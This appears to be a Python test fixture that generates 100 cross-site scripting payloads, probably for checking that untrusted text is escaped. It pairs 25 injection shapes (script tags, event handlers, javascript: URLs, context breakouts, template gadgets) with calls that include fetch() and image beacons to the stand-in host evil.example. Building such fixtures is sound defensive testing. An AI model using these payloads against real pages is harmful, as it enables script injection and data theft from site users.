"""A hundred texts that would be programs, if a page took text for anything but text."""

from __future__ import annotations

from typing import Final

RUN: Final = "window.broken=1"
OUTSIDE: Final = "http://evil.example/x"

_CALLS: Final = (
    RUN,
    f"fetch('{OUTSIDE}')",
    "alert(1)",
    f"new Image().src='{OUTSIDE}'",
)
_SHAPES: Final = (
    "<script>{0}</script>",
    "<img src=x onerror={0}>",
    "<svg onload={0}>",
    "<svg><script>{0}</script></svg>",
    '"><script>{0}</script>',
    "'><img src=x onerror={0}>",
    "</pre><script>{0}</script>",
    "</textarea><script>{0}</script>",
    "</title><script>{0}</script>",
    "--><script>{0}</script>",
    "<iframe srcdoc='<script>parent.{0}</script>'></iframe>",
    '<iframe src="javascript:parent.{0}"></iframe>',
    '<a href="javascript:{0}">click</a>',
    "<body onload={0}>",
    "<details open ontoggle={0}>",
    "<input autofocus onfocus={0}>",
    "<video><source onerror={0}></video>",
    "<style>@import '" + OUTSIDE + "';</style><!--{0}-->",
    "<link rel=stylesheet href=" + OUTSIDE + "><!--{0}-->",
    "<base href=" + OUTSIDE + "><!--{0}-->",
    "<meta http-equiv=refresh content='0;url=" + OUTSIDE + "'><!--{0}-->",
    "<form action=" + OUTSIDE + "><button autofocus>{0}</button></form>",
    "${{{0}}}{{{{constructor.constructor('{0}')()}}}}",
    "[x](javascript:{0}) ![x](" + OUTSIDE + ")",
    "javascript:{0}//\u2028<x onclick={0}>",
)
PAYLOADS: Final = tuple(shape.format(call) for shape in _SHAPES for call in _CALLS)
assert len(PAYLOADS) == 100
